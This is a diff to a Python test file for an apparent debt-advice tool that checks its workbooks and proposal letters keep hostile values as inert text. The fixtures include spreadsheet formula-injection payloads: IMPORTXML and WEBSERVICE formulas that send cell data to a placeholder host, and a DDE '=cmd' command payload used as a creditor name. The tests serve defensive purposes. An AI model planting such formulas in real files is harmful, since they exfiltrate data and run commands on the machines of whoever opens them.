@@ -47,7 +47,8 @@ OWASP = [
     "=IMPORTXML(CONCAT(\"http://x.invalid?v=\",CONCATENATE(A2:E2)),\"//a\")",
     "=WEBSERVICE(\"http://x.invalid/?\"&A1)",
 ]
-SAMPLE = ["=1+1", "@Iris Salon", HYPERLINK_NAME, "=1+1 Formula Road, Testtown TT1 1TT"]
+SAMPLE = ["=1+1", "@Iris Salon", "=1+1 Formula Road, Testtown TT1 1TT"]  # the collections sample's (the clients
+# a buyer is shown have real names; a formula-looking client name is tested in tests/test_one_case.py)
 PAYLOADS = OWASP + SAMPLE
 BENIGN = ["Acme Plumbing Ltd", "Sam O'Neil", "1-30", "91+", " =1+1"]
 
@@ -173,11 +174,13 @@ def test_proposals_hold_a_hostile_creditor_name_as_text(tmp_path):
     from debtdesk.workbooks.proposals import write_proposal
 
     debts = pd.DataFrame({"Name": [HYPERLINK_NAME, "=cmd|' /C calc'!A0"], "Type": ["Credit card", "Credit card"],
-                          "Balance": [900.0, 300.0]})
-    for i, proposal in enumerate(proposals(1500, 1200, debts, client="@Client", on="2026-11-01")):
+                          "Balance": [900.0, 300.0], "Minimum": [250.0, 100.0]})  # unaffordable: letters to both
+    found = proposals(1500, 1200, debts, client="@Client", on="2026-11-01")
+    assert len(found) == 2
+    for i, proposal in enumerate(found):
         path = write_proposal(proposal, tmp_path / f"{i}.docx")
-        text = "\n".join(p.text for p in docx.Document(path).paragraphs)
-        assert f"To: {debts['Name'][i]}" in text
+        lines = [p.text for p in docx.Document(path).paragraphs]
+        assert debts["Name"][i] in lines  # the addressee line, printed as typed
         assert _field_codes(path) == []
 
 
